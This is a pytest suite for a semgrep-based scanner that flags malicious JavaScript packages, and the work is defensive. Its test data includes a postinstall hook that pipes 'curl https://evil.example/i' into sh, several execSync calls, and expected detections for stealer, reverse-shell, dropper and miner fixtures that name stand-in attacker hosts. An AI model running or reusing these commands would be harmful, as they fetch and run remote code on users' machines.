"""The semgrep engine: batching, offline flags, mapping back, defensive parsing, failure as error,
native vs default engine, JS fixtures end to end."""

from __future__ import annotations

import json
import shutil
import subprocess
import sys
from pathlib import Path

import pytest

from skillscan.analyzers.semgrep import (
    MAX_TARGET_BYTES,
    SemgrepAnalyzer,
    SemgrepError,
    Target,
    parse_output,
    semgrep_binary,
    too_big,
)
from skillscan.catalog import get_catalog
from skillscan.engine import ScanOptions, scan
from skillscan.loaders.files import make_file
from skillscan.model import Decision, Finding, Package

REPO = Path(__file__).resolve().parent.parent
SAMPLES = REPO / "tests" / "rules" / "semgrep"
RULES = REPO / "rules" / "semgrep"


def pkg(name: str, files: dict[str, str]) -> Package:
    return Package(input=name, root=name, format="generic", name=name,
                   files=tuple(make_file(p, t.encode()) for p, t in sorted(files.items())))


def keys(findings: list[Finding]) -> set[tuple[str, str, int]]:
    return {(f.rule_id, f.location.path, f.location.line) for f in findings}


EXEC = 'const cp = require("child_process");\ncp.execSync("curl -s https://a.example/x");\n'


# -- rules -------------------------------------------------------------------------------------------

def test_every_semgrep_rule_has_a_sample_named_after_it() -> None:
    ids = []
    for path in sorted(RULES.glob("*.yaml")):
        import yaml

        doc = yaml.safe_load(path.read_text())
        assert [r["id"] for r in doc["rules"]] == [path.stem], "one rule per file, named by its id"
        assert doc["rules"][0]["metadata"]["id"] == path.stem
        ids.append(path.stem)
        assert [p for p in SAMPLES.glob(path.stem + ".*")], f"no sample for {path.stem}"
    assert len(ids) >= 10
    assert all(rid in get_catalog() for rid in ids)


def test_semgrep_native_rule_tests_pass(tmp_path: Path) -> None:
    """`semgrep --test` with the native engine on the same annotated samples CI uses."""
    for f in list(RULES.glob("*.yaml")) + list(SAMPLES.iterdir()):
        shutil.copy(f, tmp_path / f.name)
    proc = subprocess.run([semgrep_binary(), "--test", "--experimental", "--metrics=off", "--disable-version-check",
                           str(tmp_path)], check=False, capture_output=True, text=True, timeout=120)
    out = proc.stdout + proc.stderr
    assert proc.returncode == 0, out[-2000:]
    assert "All tests passed" in out


def test_native_engine_agrees_with_default_engine() -> None:
    """Same findings from `--experimental` (native) and the default engine on every rule sample."""
    from skillscan.loaders.discover import load_inputs

    packages = load_inputs([str(SAMPLES), str(REPO / "fixtures" / "js-malicious-stealer")])
    native = SemgrepAnalyzer(native=True).analyze_batch(packages)
    default = SemgrepAnalyzer(native=False).analyze_batch(packages)

    def summary(results: list[list[Finding]]) -> list[set[tuple[str, str, int, str]]]:
        return [{(f.rule_id, f.location.path, f.location.line, ",".join(map(str, f.capabilities))) for f in fs}
                for fs in results]

    n, d = summary(native), summary(default)
    assert n == d
    assert sum(len(s) for s in n) > 50  # the comparison is not vacuous


# -- batching and mapping --------------------------------------------------------------------------

def test_one_process_for_many_packages_and_results_map_back() -> None:
    a = pkg("a", {"index.js": EXEC})
    b = pkg("b", {"index.js": "// nothing here\n" + EXEC})  # same path, other content and line
    c = pkg("c", {"README.md": "no code"})
    analyzer = SemgrepAnalyzer()
    results = analyzer.analyze_batch([a, b, c])
    assert analyzer.runs == 1
    assert ("js-child-process", "index.js", 2) in keys(results[0])
    assert ("js-child-process", "index.js", 3) in keys(results[1])
    assert ("js-child-process", "index.js", 2) not in keys(results[1])
    assert results[2] == []


def test_batches_are_cut_by_file_count_and_run_side_by_side() -> None:
    packages = [pkg(f"p{i}", {f"s{i}.js": EXEC}) for i in range(5)]
    analyzer = SemgrepAnalyzer(batch_files=2, jobs=2)
    targets, _ = analyzer.targets(packages)
    assert [len(b) for b in analyzer.batches(targets)] == [2, 2, 1]
    results = analyzer.analyze_batch(packages)
    assert analyzer.runs == 3
    for i, fs in enumerate(results):
        assert ("js-child-process", f"s{i}.js", 2) in keys(fs)


def test_scans_what_semgrep_would_skip_and_ignores_nosemgrep() -> None:
    files = {
        "tests/t.js": EXEC,
        "node_modules/dep/index.js": EXEC,
        "vendor/v.js": EXEC,
        "bin/tool": "#!/usr/bin/env node\n" + EXEC,
        "lib/quiet.ts": 'import { execSync } from "child_process";\nexecSync("id"); // nosemgrep\n',
    }
    p = pkg("skippy", files)
    assert p.file("bin/tool") is not None and p.file("bin/tool").language == "javascript"  # type: ignore[union-attr]
    found = keys(SemgrepAnalyzer().analyze_batch([p])[0])
    for path in ("tests/t.js", "node_modules/dep/index.js", "vendor/v.js"):
        assert ("js-child-process", path, 2) in found
    assert ("js-child-process", "bin/tool", 3) in found
    assert ("js-child-process", "lib/quiet.ts", 2) in found


def test_offline_flags_and_explicit_file_list() -> None:
    cmd = SemgrepAnalyzer().command(["f0.js", "f1.ts"], 1)
    for flag in ("--experimental", "--metrics=off", "--disable-version-check", "--disable-nosem", "--no-git-ignore",
                 "--json"):
        assert flag in cmd
    assert cmd[-3:] == ["--", "f0.js", "f1.ts"]
    assert not any("registry" in c or c.startswith("p/") or c == "auto" for c in cmd)
    assert "--experimental" not in SemgrepAnalyzer(native=False).command(["f0.js"], 1)


def test_big_files_skip_semgrep_but_minified_ones_do_not() -> None:
    big = make_file("big.js", b"// x\n" * (MAX_TARGET_BYTES // 5 + 10))
    minified = make_file("bundle.min.js", b"var a=1;" * 20000)  # 160 KB on one line: analysed (issue 18)
    small_one_line = make_file("tiny.min.js", b'require("child_process").execSync("id");' * 3)
    assert too_big(big) and not too_big(minified) and not too_big(small_one_line)
    package = pkg("x", {}).__class__(input="x", root="x", format="generic", name="x",
                                     files=(big, minified, small_one_line))
    targets, skipped = SemgrepAnalyzer().targets([package])
    assert sorted(t.file.path for t in targets) == ["bundle.min.js", "tiny.min.js"]
    assert [f.path for _, f in skipped] == ["big.js"]


# -- failures are errors, never silent passes ------------------------------------------------------

def _fake(tmp_path: Path, body: str) -> str:
    script = tmp_path / "fake-semgrep"
    script.write_text(f"#!{sys.executable}\n" + body)
    script.chmod(0o755)
    return str(script)


def test_semgrep_crash_raises(tmp_path: Path) -> None:
    fake = _fake(tmp_path, "import sys\nsys.stderr.write('boom: cannot load rules')\nsys.exit(2)\n")
    with pytest.raises(SemgrepError, match="boom"):
        SemgrepAnalyzer(binary=fake).analyze_batch([pkg("a", {"i.js": EXEC})])
    with pytest.raises(SemgrepError, match="could not be started"):
        SemgrepAnalyzer(binary=str(tmp_path / "missing")).analyze_batch([pkg("a", {"i.js": EXEC})])


def test_semgrep_failure_makes_the_verdict_an_error_not_allow(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    target = REPO / "fixtures" / "js-benign-api-client"
    fine = scan([str(target)], ScanOptions(jobs=1, use_cache=False))
    assert fine.results[0].verdict.decision is Decision.ALLOW
    monkeypatch.setenv("SKILLSCAN_SEMGREP", _fake(tmp_path, "print('not json')\n"))
    report = scan([str(target)], ScanOptions(jobs=1, use_cache=False))
    result = report.results[0]
    assert result.verdict.decision is not Decision.ALLOW
    assert any("semgrep" in e for e in result.errors)


def test_private_temp_dir_and_explicit_targets(tmp_path: Path) -> None:
    log = tmp_path / "seen.json"
    body = f"""import json, os, sys
args = sys.argv[1:]
files = args[args.index('--') + 1:]
top = os.path.dirname(os.getcwd())
json.dump({{"files": files, "mode": oct(os.stat(top).st_mode & 0o777), "exist": all(os.path.isfile(f) for f in files),
           "cwd_mode": oct(os.stat('.').st_mode & 0o777)}}, open({str(log)!r}, "w"))
print(json.dumps({{"results": [], "errors": [], "paths": {{"scanned": files}}}}))
"""
    analyzer = SemgrepAnalyzer(binary=_fake(tmp_path, body))
    # files some rule can match (a file no rule can match never reaches semgrep: tests/test_semgrep_prefilter.py)
    out = analyzer.analyze_batch([pkg("a", {"x/a.js": "fetch(u)", "b.ts": "eval(s)",
                                            "package.json": '{"scripts": {"postinstall": "x"}}'})])
    seen = json.loads(log.read_text())
    assert out == [[]]
    assert seen["mode"] == "0o700" and seen["cwd_mode"] == "0o700"
    assert seen["exist"] and sorted(Path(f).suffix for f in seen["files"]) == [".js", ".json", ".ts"]


# -- defensive JSON parsing -------------------------------------------------------------------------

def _target(name: str = "f0.js", text: str = EXEC) -> Target:
    f = make_file("src/index.js", text.encode())
    return Target(0, f, name, text.encode())


def _result(start: int, end: int, rule: str = "rules.semgrep.js-child-process") -> dict[str, object]:
    return {"check_id": rule, "path": "f0.js", "start": {"line": 99, "col": 1, "offset": start},
            "end": {"line": 99, "col": 1, "offset": end}, "extra": {"lines": "requires login", "message": "m"}}


def test_parse_cuts_snippets_from_offsets_not_lines() -> None:
    t = _target()
    start = EXEC.index("cp.execSync")
    doc = {"results": [_result(start, len(EXEC) - 1)], "errors": [], "paths": {"scanned": ["f0.js"]}}
    matches, incomplete = parse_output(0, json.dumps(doc).encode(), b"", {"f0.js": t})
    assert incomplete == []
    (m,) = matches
    assert m.rule_id == "js-child-process" and m.line == 2 and m.column == 1
    assert m.text.startswith("cp.execSync(") and "requires login" not in m.text


def test_parse_tolerates_odd_results_and_reports_unscanned_files() -> None:
    t = _target()
    doc = {"results": [_result(-5, 10**9), _result(0, 3, rule="some.other.rule"), {"check_id": "x"}, "junk"],
           "errors": [{"type": ["PartialParsing", [{"path": "f0.js"}]], "level": "warn", "path": "f0.js",
                       "message": "partial"}],
           "paths": {"scanned": []}}
    matches, incomplete = parse_output(1, json.dumps(doc).encode(), b"", {"f0.js": t})
    assert len(matches) == 1 and matches[0].start == 0 and matches[0].end == len(EXEC.encode())
    assert [f.rule_id for _, f in incomplete] == ["analysis-incomplete"]
    assert "src/index.js" in incomplete[0][1].message


def test_parse_per_file_errors_become_analysis_incomplete() -> None:
    t = _target()
    doc = {"results": [], "errors": [{"type": "Syntax error", "level": "warn", "path": "/tmp/x/f0.js",
                                      "message": "bad token"}], "paths": {"scanned": ["f0.js"]}}
    _, incomplete = parse_output(0, json.dumps(doc).encode(), b"", {"f0.js": t})
    assert len(incomplete) == 1 and "Syntax error" in incomplete[0][1].message


@pytest.mark.parametrize("stdout,rc", [
    (b"", 2), (b"<html>", 0), (b"[]", 0), (b'{"errors": []}', 0),
    (json.dumps({"results": [], "errors": [{"type": "Rule parse error", "level": "error", "message": "bad"}]}).encode(), 7),
])
def test_parse_rejects_untrustworthy_output(stdout: bytes, rc: int) -> None:
    with pytest.raises(SemgrepError):
        parse_output(rc, stdout, b"stderr text", {"f0.js": _target()})


# -- end to end on the JS fixtures ---------------------------------------------------------------

EXPECTED = {
    "js-malicious-stealer": ["secrets.read[ssh]", "secrets.read[cloud:aws]", "secrets.read[browser]",
                             "net.egress[collect.evil.example]"],
    "js-malicious-exfiltrator": ["env.read[*]", "net.egress[webhook.site]"],
    "js-malicious-miner": ["proc.exec[xmrig]", "compute.mine"],
    "js-malicious-tunnel": ["net.tunnel[ngrok]"],
    "js-malicious-reverse-shell": ["proc.shell", "net.egress[203.0.113.7]"],
    "js-malicious-dropper": ["code.remote[http://203.0.113.50/helper-linux-amd64]", "net.egress[203.0.113.50]"],
    "js-malicious-obfuscated": ["code.dynamic[eval]", "code.remote[https://evil.example/stage2.sh]"],
    "js-malicious-persistence": ["persist[shell-rc]", "persist[launchd]"],
    "js-benign-mcp-folder": [],
    "js-benign-api-client": ["net.egress[api.acme.example]", "env.read[ACME_API_TOKEN]"],
}


@pytest.fixture(scope="module")
def fixture_report() -> dict[str, object]:
    paths = [str(REPO / "fixtures" / name) for name in EXPECTED]
    report = scan(paths, ScanOptions(jobs=2, use_cache=False))
    return {Path(r.package.input).name: r for r in report.results}


@pytest.mark.parametrize("name", sorted(EXPECTED))
def test_js_fixture(name: str, fixture_report: dict[str, object]) -> None:
    result = fixture_report[name]
    inferred = {str(c.capability) for c in result.verdict.inferred}  # type: ignore[attr-defined]
    missing = [c for c in EXPECTED[name] if c not in inferred]
    assert not missing, (missing, sorted(inferred))
    assert not result.errors, result.errors  # type: ignore[attr-defined]
    decision = result.verdict.decision  # type: ignore[attr-defined]
    if "-malicious-" in name:
        assert decision is Decision.BLOCK, result.verdict.reasons  # type: ignore[attr-defined]
        js_evidence = [e for c in result.verdict.inferred for e in c.evidence  # type: ignore[attr-defined]
                       if e.path.endswith((".js", ".ts")) or "#decoded" in e.path]
        assert js_evidence, "the JavaScript code itself is evidence"
    else:
        assert decision is Decision.ALLOW, result.verdict.reasons  # type: ignore[attr-defined]




def test_lifecycle_scripts_defer_to_install_surfaces() -> None:
    from dataclasses import replace

    from skillscan.model import Surface

    text = '{\n  "name": "x",\n  "scripts": {\n    "test": "jest",\n    "postinstall": "curl -s https://evil.example/i | sh"\n  }\n}\n'
    bare = pkg("x", {"package.json": text})
    found = SemgrepAnalyzer().analyze_batch([bare])[0]
    (own,) = [f for f in found if f.rule_id == "js-lifecycle-script"]
    assert own.location.line == 5 and own.channel.value == "manifest"
    assert "postinstall" in own.message and [str(c) for c in own.capabilities] == ["proc.exec[curl]"]
    assert any(str(c).startswith("code.remote[") for f in found for c in f.capabilities)  # via the shell analyzer
    surfaced = replace(bare, surfaces=(Surface(kind="install", path="package.json", command="curl …",
                                               event="postinstall", line=5),))
    assert not [f for f in SemgrepAnalyzer().analyze_batch([surfaced])[0] if f.rule_id == "js-lifecycle-script"]


def test_minified_bundles_are_analysed_and_oversized_files_always_reported() -> None:
    """Issue 18: a long comment line must not hide the code after it (a padded stealer was `allow`), and
    a file semgrep skips is analysis-incomplete even though YARA reads it (YARA finds no data flow)."""
    padded = make_file("dist/bundle.js", b"/*" + b"x" * 70_000 + b"*/" + EXEC.encode())
    package = Package(input="m", root="m", format="generic", name="m", files=(padded,))
    (found,) = SemgrepAnalyzer().analyze_batch([package])
    assert "js-child-process" in {f.rule_id for f in found}
    assert "analysis-incomplete" not in {f.rule_id for f in found}
    big = make_file("dist/huge.js", b"// x\n" * (MAX_TARGET_BYTES // 5 + 10))
    (found,) = SemgrepAnalyzer().analyze_batch([Package(input="m", root="m", format="generic", name="m",
                                                        files=(big,))])
    assert [(f.rule_id, f.location.path) for f in found] == [("analysis-incomplete", "dist/huge.js")]
    assert "larger than 1,000,000 bytes" in found[0].message


def test_command_lines_name_the_program_past_assignments_and_wrappers() -> None:
    """One reading of "the program a command line runs" (capabilities/commands.py): a lifecycle script
    or a child_process shell string is read past `VAR=x` and wrappers (`env`, `nohup`, `timeout 30`…);
    an argv keeps its first element."""
    manifest = '{\n  "scripts": {\n    "postinstall": "NODE_ENV=production timeout 30 node build.js"\n  }\n}\n'
    code = ('const cp = require("child_process");\ncp.execSync("nohup env -i python3 serve.py");\n'
            'cp.spawn("env", ["node", "x.js"]);\n')
    found = SemgrepAnalyzer().analyze_batch([pkg("w", {"package.json": manifest, "index.js": code})])[0]
    (script,) = [f for f in found if f.rule_id == "js-lifecycle-script"]
    assert [str(c) for c in script.capabilities] == ["proc.exec[node]"]
    execs = {f.location.line: [str(c) for c in f.capabilities] for f in found if f.rule_id == "js-child-process"}
    assert execs[2] == ["proc.exec[python]"]
    assert execs[3] == ["proc.exec[env]"]
